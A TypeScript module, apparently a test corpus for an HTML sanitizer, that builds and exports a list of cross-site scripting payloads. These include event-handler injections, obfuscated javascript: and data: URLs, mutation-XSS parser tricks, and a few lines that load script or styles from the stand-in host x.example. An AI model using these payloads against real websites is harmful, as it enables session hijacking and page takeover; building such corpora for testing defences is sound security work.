const handlers = [
  ...['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'onanimationstart', 'onbegin', 'ontoggle'],
  ...['onpointerenter', 'onwheel', 'onscrollend', 'oncontentvisibilityautostatechange'],
];
const tags = [
  ...['img', 'svg', 'body', 'video', 'details', 'iframe', 'input', 'math', 'p', 'a', 'marquee', 'object'],
];
const forms = [
  (tag: string, handler: string) => `<${tag} src=x ${handler}=alert(1)>x</${tag}>`,
  (tag: string, handler: string) =>
    `<${tag}/src="x"/${handler}="alert(1)" autofocus open tabindex=1>x</${tag}>`,
  (tag: string, handler: string) => `<${tag.toUpperCase()} SRC=x\n${handler.toUpperCase()}\t=\n'alert(1)'>x`,
];
const schemes = [
  ...['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', 'java\nscript:alert(1)'],
  ...[
    '&#106;avascript:alert(1)',
    '&#x6A;avascript:alert(1)',
    ' javascript:alert(1)',
    '\u0001javascript:alert(1)',
  ],
  ...[
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  ],
  ...['vbscript:alert(1)', '//x.example', 'blob:https://x.example/1', 'view-source:x', 'filesystem:x'],
];
const schemeForms = [
  (scheme: string) => `<a href="${scheme}">x</a>`,
  (scheme: string) => `<a href=${scheme.replaceAll(/\s/g, '')}>x`,
  (scheme: string) => `<form action="${scheme}"><button>x</button></form>`,
  (scheme: string) => `<iframe src="${scheme}"></iframe>`,
  (scheme: string) => `<svg><a xlink:href="${scheme}"><text y=20>x</text></a></svg>`,
];
const mutations = [
  '<script>alert(1)</script>',
  '<script src=//x.example/a.js></script>',
  '<script type=module>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<xmp><script>alert(1)</script></xmp>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<listing>&lt;img onerror="alert(1)" src=x&gt;</listing>',
  '<style>@import "https://x.example"</style>',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="position:fixed;inset:0;z-index:9999">x</p>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://x.example"><link rel=stylesheet href=//x.example>',
  '<embed src="javascript:alert(1)">',
  '<object data="javascript:alert(1)"></object>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<select><option><img src=x onerror=alert(1)></select>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<img src=x:alert(1) onerror=eval(src)>',
  '<img """><script>alert(1)</script>">',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<<img src=x onerror=alert(1)//<',
  '<a href="https://x.example" target=_blank onclick=alert(1) style="x:expression(alert(1))">x</a>',
  '<a href="x" id=alert name=alert>x</a>',
  '<input onfocus=alert(1) autofocus>',
  '<keygen autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<button popovertarget=x>x</button><xss popover id=x onbeforetoggle=alert(1)>x</xss>',
  '<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>',
  '</div></main><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '\u2028<script>alert(1)</script>\u2029',
];

/** XSS vectors, including mutation XSS. All of them call `alert` or contact x.example. */
export const xssCorpus: readonly string[] = [
  ...tags.flatMap((tag) => handlers.flatMap((handler) => forms.map((form) => form(tag, handler)))),
  ...schemes.flatMap((scheme) => schemeForms.map((form) => form(scheme))),
  ...mutations,
];
